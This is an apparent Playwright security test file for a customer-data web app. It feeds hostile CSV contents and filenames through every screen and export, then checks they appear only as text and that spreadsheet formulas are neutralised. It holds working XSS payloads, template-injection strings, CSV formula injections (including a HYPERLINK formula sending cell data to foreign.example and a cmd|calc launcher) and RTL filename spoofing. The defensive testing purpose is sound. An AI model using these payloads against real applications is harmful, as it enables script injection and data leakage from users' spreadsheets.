import { readdirSync, readFileSync } from 'node:fs';
import { expect, type Page } from '@playwright/test';
import { strFromU8, unzipSync } from 'fflate';
import { readXlsx } from 'hucre/xlsx';
import Papa from 'papaparse';
import { screens } from '#app/routes.ts';
import { kitText } from '#ui/words/kit-text.ts';
import type { App } from './app.ts';
import { savedFile, settled } from './app/common.ts';
import { isLong, test } from './fixtures.ts';
import { csvOf } from './small-shop.ts';

/** Ten kinds of hostile text, some with a second spelling. */
const PAYLOADS: readonly (readonly [name: string, text: string])[] = [
  ['script', '<script>globalThis.pwned=1;alert(1)</script>'],
  ['img', '<img src=x onerror="globalThis.pwned=1;alert(1)">'],
  ['svg', '<svg onload=globalThis.pwned=1><a xlink:href="javascript:alert(1)"></a></svg>'],
  ['link', 'javascript:globalThis.pwned=1//'],
  [
    'template',
    '{{constructor.constructor("globalThis.pwned=1")()}} ${globalThis.pwned=1} <%= pwned %>',
  ],
  [
    'markdown',
    '[click](javascript:alert(1)) ![x](http://foreign.example/x.png) https://foreign.example/?q=1',
  ],
  ['direction', 'abc\u202Egnp.exe\u202C\u200B\u200D\u2066x\u2069'],
  [
    'style',
    '</style><style>body{display:none}</style> expression(alert(1)) url(javascript:alert(1))',
  ],
  ['formula', "=cmd|'/C calc'!A0"],
  ['formula2', '@SUM(1+1)*cmd|x'],
  ['frame', '"><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'],
  ['long', `L${'ong '.repeat(2500)}end`],
  ['control', 'bell\u0007esc\u001B[31mdel\u007F'],
];

/** Headers that no object should be asked for, that a sheet would compute, none, and one twice. */
const ODD_HEADERS = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '=HYPERLINK("http://foreign.example/?"&A1,"x")',
  '+cmd|x',
  '-2+3+cmd|x',
  '&lt;script&gt;&#60;b&#62;&amp;amp;',
  '',
  '',
  'xyzzy',
] as const;

const HEADERS = [
  'order_id',
  'member_no',
  'name',
  'paid_at',
  'amount_paid',
  'status',
  'product',
  'quantity',
  'channel',
  'city',
];

/** One customer a payload, who is nothing but payload; thirty plain ones so that every screen has something to show. */
function hostileShop(): { orders: string; custom: string; reviews: string } {
  const rows: string[][] = [[...HEADERS]];
  PAYLOADS.forEach(([id, text], at) => {
    for (let visit = 0; visit < 4; visit++) {
      const day = `2024-0${visit + 1}-1${at % 10}`;
      const cells = [`${text}-${visit}`, `${id} ${text}`, text, day, '10.50', text, text, '1'];
      rows.push([...cells, text, text]);
    }
  });
  for (let at = 0; at < 30; at++) {
    const day = `2024-05-${String(1 + (at % 28)).padStart(2, '0')}`;
    const cells = [
      `P${at}`,
      `plain${at}`,
      `Plain ${at}`,
      day,
      `${20 + at}.00`,
      'Completed',
      'Tea',
      '1',
    ];
    rows.push([...cells, 'Web', 'York']);
  }
  // Headers that are payloads become custom fields of customers, and so do values that are.
  const custom = [
    [
      'member_no',
      'name',
      'phone',
      'birthday',
      'xyzzy',
      ...PAYLOADS.map(([, text]) => text),
      ...ODD_HEADERS,
    ],
    ...PAYLOADS.map(([id, text], at) => [
      `${id} ${text}`,
      text,
      `1380013${8100 + at}`,
      // Within the week after the newest order: on the care list.
      '1990-05-30',
      text,
      ...PAYLOADS.map(() => `v${at % 3}`),
      ...ODD_HEADERS.map((_, odd) => ODD_HEADERS[(at + odd) % ODD_HEADERS.length]!),
    ]),
    ...Array.from({ length: 30 }, (_, at) => [
      `plain${at}`,
      `Plain ${at}`,
      `1380013${8200 + at}`,
      '',
      `n${at}`,
      ...PAYLOADS.map(() => `w${at % 3}`),
      ...ODD_HEADERS.map((_, odd) => `o${(at + odd) % 3}`),
    ]),
  ];
  const reviews = [
    ['Review ID', 'member_no', 'Review Date', 'Rating', 'Review Text'],
    ...PAYLOADS.map(([id, text], at) => [`R${at}`, `${id} ${text}`, '2024-04-20', '1', text]),
  ];
  return { orders: csvOf(rows), custom: csvOf(custom), reviews: csvOf(reviews) };
}

const FILES = hostileShop();
const ORDERS_NAME = '"><img src=x onerror=globalThis.pwned=1> {{7*7}}.csv';
const CUSTOM_NAME = '=cmd|calc \u202Evsc.csv';
const REVIEWS_NAME = '<svg onload=globalThis.pwned=1>.csv';

interface Elements {
  readonly [selector: string]: number;
}

const SELECTORS = [
  'script',
  'style',
  'img',
  'iframe',
  'object',
  'embed',
  'link',
  'meta',
  'base',
  'form[action]',
  'a[href*="javascript:" i]',
  'a[href^="http"]',
  '[src*="javascript:" i]',
  '[onload], [onerror], [onclick], [onmouseover]',
] as const;

const elementsOf = (page: Page): Promise<Elements> =>
  page.evaluate(
    (selectors) =>
      Object.fromEntries(selectors.map((it) => [it, document.querySelectorAll(it).length])),
    [...SELECTORS],
  );

/** Elements that text could have made, in the frame the app has anyway. */
async function expectOnlyText(app: App, place: string): Promise<void> {
  const { page } = app;
  await settled(page);
  const found = await elementsOf(page);
  for (const selector of SELECTORS) {
    // The build has its scripts, links and metas; styles come from the kit. None of them grows from data.
    const isOfBuild = ['script', 'style', 'link', 'meta'].includes(selector);
    if (!isOfBuild) expect.soft(found[selector], `${selector} on ${place}`).toBe(0);
  }
  const scripts = await page.evaluate(() =>
    [...document.querySelectorAll<HTMLElement>('script, style')].map((it) =>
      it.outerHTML.slice(0, 400),
    ),
  );
  for (const script of scripts) {
    expect.soft(script, place).not.toMatch(/pwned|display:none}<|alert\(1/);
  }
  expect.soft(await page.evaluate(() => Reflect.has(globalThis, 'pwned')), place).toBe(false);
  const [title, address] = [await page.title(), page.url().slice(app.url.length)];
  expect.soft(title, place).toMatch(/^[\p{L} ]+ · Silhouette$/u);
  const route = ROUTES.find(({ pattern }) => pattern.test(address.slice(1) || '/'));
  expect.soft(route?.path, `${address} on ${place}`).toBeDefined();
  if (route) visited.add(route.path);
}

/** Addresses hold fixed words and ids, never a word of the data: most specific first. */
const ROUTES = screens
  .map(({ path }) => ({
    path,
    pattern: new RegExp(
      `^${path.replaceAll(/:(\w+)/g, (_, name) => (name === 'recordId' ? '\\d+' : '[\\w-]+'))}$`,
    ),
  }))
  .sort((a, b) => a.path.split(':').length - b.path.split(':').length);

const visited = new Set<string>();

/** Every file that lets something out of the app, and where that is looked at. */
const WAYS_OUT: Readonly<Record<string, string>> = {
  'src/app/backup/folder-row.tsx': 'a backup: read by the app alone, checked record by record',
  'src/app/backup/save-backup.ts': 'a backup too; its name is a day',
  'src/app/paste/paste-button.tsx': 'nothing leaves: the clipboard is read',
  'src/app/people/copy-text.ts': 'plain text, as the previews of a message show it here',
  'src/app/people/people-file.ts': 'here: CSV and XLSX of customers and of a segment',
  'src/app/people/print-sheet.tsx': 'here: a printed list',
  'src/app/people/sample-file.tsx': 'nothing of the data: fixed rows',
  'src/app/screens/care/care-screen.tsx': 'here: the care list on paper',
  'src/app/screens/customer/customer-screen.tsx': 'here: a customer on paper',
  'src/app/screens/import/outcome/batch-downloads.tsx': 'here: report, clean CSV and rejected rows',
  'src/app/screens/import/mapping/mapping-file.tsx':
    'names of columns as JSON; what a stranger’s file says is checked in src/domain/mapping-file.test.ts',
  'src/app/screens/overview/figures.tsx': 'here: the numbers of the overview',
  'src/app/screens/personas/persona-screen.tsx': 'here: a persona on paper',
  'src/app/vault/recovery-sheet.tsx': 'nothing of the data: the letters of a key',
  'src/ui/charts/chart-frame.tsx': 'here: a chart as CSV and as a drawing',
  'src/ui/save-file.ts': 'the one place that saves',
};

/** Files of src that save, print, copy or share. */
function waysOut(): string[] {
  const asks =
    /\b(?:saveFile\(|createObjectURL|window\.print\(|navigator\.clipboard|navigator\.share|showSaveFilePicker|showDirectoryPicker|execCommand)/;
  return readdirSync('src', { recursive: true, encoding: 'utf8' })
    .map((name) => `src/${name.replaceAll('\\', '/')}`)
    .filter((name) => /\.tsx?$/.test(name) && !name.includes('.test.'))
    .filter((name) => asks.test(readFileSync(name, 'utf8')))
    .sort();
}

test('every way out of the app is on the list of this corpus', () => {
  // A new one has to be looked at below with hostile text, or said here where it is.
  expect(waysOut()).toEqual(Object.keys(WAYS_OUT).sort());
});

/** Whether the text stands on the page letter for letter (blanks as HTML shows them). */
async function expectShown(app: App, text: string, place: string): Promise<void> {
  const plain = (it: string) => it.replaceAll(/\s+/g, ' ').trim();
  const shown = plain(
    await app.page.evaluate(() => document.querySelector('main')?.textContent ?? ''),
  );
  expect.soft(shown.includes(plain(text)), `${text.slice(0, 60)} on ${place}`).toBe(true);
}

test('hostile text is text on every screen', async ({ openApp }) => {
  test.slow();
  const app = await openApp({ locale: 'en' });
  const { importing, customers, data, rfm } = app;
  await importing.drop([
    { name: ORDERS_NAME, text: FILES.orders },
    { name: CUSTOM_NAME, text: FILES.custom },
    { name: REVIEWS_NAME, text: FILES.reviews },
  ]);

  await test.step('staged', async () => {
    await expectOnlyText(app, 'staged');
    for (const name of [ORDERS_NAME, CUSTOM_NAME]) {
      await expectShown(app, name, 'staged');
      for (const tab of ['columns', 'reading', 'rows'] as const) {
        await importing.openTab(name, tab);
        await expectOnlyText(app, `staged ${tab}`);
      }
    }
    await importing.openTab(CUSTOM_NAME, 'columns');
    for (const [, text] of PAYLOADS) await expectShown(app, text, 'columns of a staged file');
    for (const header of ODD_HEADERS) await expectShown(app, header, 'columns of a staged file');
  });

  await test.step('the clean CSV is as the file, letter for letter', async () => {
    for (const [name, text] of [
      [ORDERS_NAME, FILES.orders],
      [CUSTOM_NAME, FILES.custom],
    ] as const) {
      const clean = (await importing.download(name, 'clean')).toString('utf8');
      expect(Papa.parse(clean.trimEnd()).data).toEqual(Papa.parse(text.trimEnd()).data);
    }
  });

  await test.step('overview', async () => {
    await app.start();
    await app.sentence();
    await expectOnlyText(app, 'overview');
  });

  await test.step('customers', async () => {
    await customers.open();
    await expectOnlyText(app, 'customers');
    // Custom fields named by hostile headers.
    for (const [, header] of PAYLOADS.slice(0, 3)) await customers.toggleColumn(header);
    for (const header of ODD_HEADERS.slice(0, 6)) await customers.toggleColumn(header);
    await expectOnlyText(app, 'customers with custom columns');
    await customers.clearFilters();
    const values = await customers.openValues(customers.columnName('profile.city'));
    await expectOnlyText(app, 'values of a filter');
    await expect(values).toContainText(PAYLOADS[0]![1]);
    await app.page.keyboard.press('Escape');
  });

  await test.step('what leaves: formulas are neutralised', async () => {
    await customers.open();
    await customers.clearFilters();
    const { name, text } = await customers.exportFile();
    expect(name).toMatch(/^customers-\d{4}-\d\d-\d\d\.csv$/);
    const { data: rows } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), {
      skipEmptyLines: true,
    });
    const cells = rows.flat();
    expect(cells).toContain(`'${PAYLOADS.find(([id]) => id === 'formula')![1]}`);
    for (const header of ODD_HEADERS.slice(0, 4)) expect(rows[0]).toContain(header);
    for (const header of ODD_HEADERS.slice(4, 6)) expect(rows[0]).toContain(`'${header}`);
    expect(cells.filter((cell) => /^[=@\t\r]/.test(cell))).toEqual([]);
    expect(cells.filter((cell) => /^[+-]/.test(cell) && !/^[+-]?[\d.,]+$/.test(cell))).toEqual([]);
  });

  await test.step('found by it, and on a page of its own', async () => {
    // Each on a page of its own takes time: the quick run looks at every third.
    for (const [id, text] of PAYLOADS.filter((_, at) => isLong || at % 3 === 0)) {
      await customers.open();
      expect.soft(await customers.search(`${id} `), `search ${id}`).toBeGreaterThanOrEqual(1);
      await expectShown(app, text, `customers searched for ${id}`);
      await expectOnlyText(app, `customers searched for ${id}`);
      const page = await customers.openFirst();
      await customers.openFirstLines();
      await expectOnlyText(app, `customer ${id}`);
      await expectShown(app, text, `customer ${id}`);
      expect.soft(page.orders.length, id).toBeGreaterThanOrEqual(4);
    }
    await app.page.emulateMedia({ media: 'print' });
    await expectOnlyText(app, 'customer on paper');
    await app.page.emulateMedia({ media: null });
    await customers.open();
    expect(await customers.search(PAYLOADS[0]![1]), 'search by the whole text').toBe(1);
  });

  await test.step('tags', async () => {
    await customers.open();
    await customers.clearFilters();
    await app.tags.open();
    await expectOnlyText(app, 'tags');
    for (const id of ['city', 'favouriteProduct', 'favouriteChannel'] as const) {
      await app.tags.openById(id);
      await expectOnlyText(app, `tag ${id}`);
      for (const [, text] of PAYLOADS) await expectShown(app, text, `tag ${id}`);
    }
  });

  await test.step('a segment made of it', async () => {
    const { segments, acting } = app;
    await segments.startNew();
    const root = segments.root();
    const first = segments.conditions(root).first();
    // A column named by a payload, with a value of another; the name of the segment is a third.
    await segments.ask(first, PAYLOADS[1]![1]);
    await segments.chooseValues(first, ['v0', 'v1', 'v2']);
    expect(await segments.count()).toBe(PAYLOADS.length);
    const city = await segments.addCondition(root);
    await segments.ask(city, customers.columnName('profile.city'));
    await segments.openValues(city);
    await expectOnlyText(app, 'values of the builder');
    await expectShown(app, PAYLOADS[0]![1], 'values of the builder');
    await app.page.keyboard.press('Escape');
    await segments.compare(city, 'contains');
    await segments.type(city, 'text', '<');
    expect(await segments.count()).toBe(PAYLOADS.filter(([, text]) => text.includes('<')).length);
    await segments.remove(city);
    await expectOnlyText(app, 'builder');
    const name = PAYLOADS[0]![1];
    await segments.save(name);
    await expectOnlyText(app, 'segment');
    await expectShown(app, name, 'segment');
    await expectShown(app, PAYLOADS[1]![1], 'the rule of a segment');
    expect(await segments.size()).toBe(PAYLOADS.length);
    const bar = acting.bar();
    await acting.openMessage(bar);
    // They rated low: what they are sent is an apology.
    await acting.chooseSituation(bar, 'sorry');
    await acting.message(bar).fill(`{name} ${PAYLOADS[2]![1]} {product}`);
    await expect.poll(async () => (await acting.previews(bar)).join(' ')).toContain('<svg');
    await expectOnlyText(app, 'a message');
    // What is printed is text too; nobody's text makes an element of the sheet.
    const printed = await acting.printed(bar);
    expect(printed.rows).toHaveLength(PAYLOADS.length);
    expect(printed.html).not.toMatch(/<(?:script|img|svg|iframe|style|a)\b/i);
    const { rows } = await acting.exportedRows(bar);
    expect(rows).toHaveLength(PAYLOADS.length);
    expect(rows.flat().filter((cell) => /^[=@\t\r]/.test(cell))).toEqual([]);
    const sheet = await readXlsx((await acting.export(bar, 'xlsx')).bytes);
    // A workbook has texts and formulas apart: each is a text, letter for letter or neutralised.
    const cells = sheet.sheets.flatMap(({ rows: own }) => own.flat()).map(String);
    expect(cells.filter((cell) => cell.includes('globalThis.pwned')).length).toBeGreaterThan(3);
    const parts = Object.entries(unzipSync((await acting.export(bar, 'xlsx')).bytes))
      .filter(([path]) => path.includes('worksheets/'))
      .map(([, bytes]) => strFromU8(bytes));
    expect(parts.length).toBeGreaterThan(0);
    for (const xml of parts) expect(xml).not.toMatch(/<f[ >]|<script|<img/);
    await app.goTo(`/${app.page.url().split('#/')[1]}/edit`);
    await expectOnlyText(app, 'editing a segment');
    await segments.open();
    await expectOnlyText(app, 'segments');
    await expectShown(app, name, 'segments');
  });

  await test.step('personas', async () => {
    await app.personas.open();
    await expectOnlyText(app, 'personas');
    const stage = (
      await (async () => {
        await app.segments.open();
        return app.segments.listed('stage');
      })()
    ).toSorted((a, b) => b.people - a.people)[0]!;
    await app.personas.openOf(stage.id);
    await expectOnlyText(app, 'persona');
    await app.page.emulateMedia({ media: 'print' });
    await expectOnlyText(app, 'persona on paper');
    await app.page.emulateMedia({ media: null });
  });

  await test.step('the care list', async () => {
    await app.care.open();
    await expectOnlyText(app, 'care list');
    await app.page.emulateMedia({ media: 'print' });
    await expectOnlyText(app, 'care list on paper');
    await app.page.emulateMedia({ media: null });
    const names = await app.care.names('birthday');
    expect(names.length).toBeGreaterThan(5);
    for (const [id, text] of PAYLOADS) {
      if (id !== 'control') await expectShown(app, text, 'care list');
    }
  });

  await test.step('RFM', async () => {
    await customers.open();
    await customers.clearFilters();
    await rfm.open();
    await expectOnlyText(app, 'rfm');
    await app.goTo('/insights/voices');
    await expectOnlyText(app, 'what customers say');
  });

  await test.step('data', async () => {
    await data.open();
    for (const name of [ORDERS_NAME, CUSTOM_NAME]) {
      await data.rowsOf(name);
      await expectOnlyText(app, 'rows of a file');
      await expectShown(app, name, 'data');
    }
    await data.undoButton(ORDERS_NAME).click();
    await expect(data.question()).toContainText(ORDERS_NAME);
    await expectOnlyText(app, 'the question before an undo');
    await data.confirm();
    await expectOnlyText(app, 'after an undo');
    await data.putBack();
  });

  await test.step('history, and where it is stored', async () => {
    await app.goTo('/history');
    await expectOnlyText(app, 'history');
    await app.goTo('/device');
    await expectOnlyText(app, 'on this device');
    await app.goTo('/restore');
    await expectOnlyText(app, 'restore');
  });

  await test.step('what the overview hands out', async () => {
    const figures = JSON.stringify(await app.downloadFigures());
    expect(figures).not.toMatch(/pwned|</);
    const menu = app.page.getByRole('button', { name: new RegExp(`: ${kitText.en.chartMenu}$`) });
    await menu.first().click();
    const csv = await savedFile(app.page, app.page.getByRole('button', { name: kitText.en.csv }));
    const cells = Papa.parse<string[]>(csv.bytes.toString('utf8').replace(/^\uFEFF/, '')).data;
    expect(cells.flat().filter((cell) => /^[=@\t\r]/.test(cell))).toEqual([]);
    await menu.first().click();
    const svg = await savedFile(app.page, app.page.getByRole('button', { name: kitText.en.svg }));
    expect(svg.bytes.toString('utf8')).not.toMatch(/<script|<foreignObject|\son\w+=|javascript:/i);
  });

  await test.step('every screen has been looked at', () => {
    expect([...visited].sort()).toEqual(screens.map(({ path }) => path).sort());
  });

  await test.step('nothing of it is kept outside the workspace', async () => {
    const kept = await app.page.evaluate(() =>
      JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, history.state]),
    );
    for (const [, text] of PAYLOADS) expect(kept).not.toContain(JSON.stringify(text).slice(1, 20));
    expect(kept).not.toContain('pwned');
  });
});

test('refused files with hostile names are named as text', async ({ openApp }) => {
  const app = await openApp({ locale: 'en' });
  await app.importing.drop([
    { name: ORDERS_NAME, text: '' },
    { name: CUSTOM_NAME, text: Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0]) },
  ]);
  await expectOnlyText(app, 'refused');
  await expectShown(app, ORDERS_NAME, 'refused');
  await expectShown(app, CUSTOM_NAME, 'refused');
});
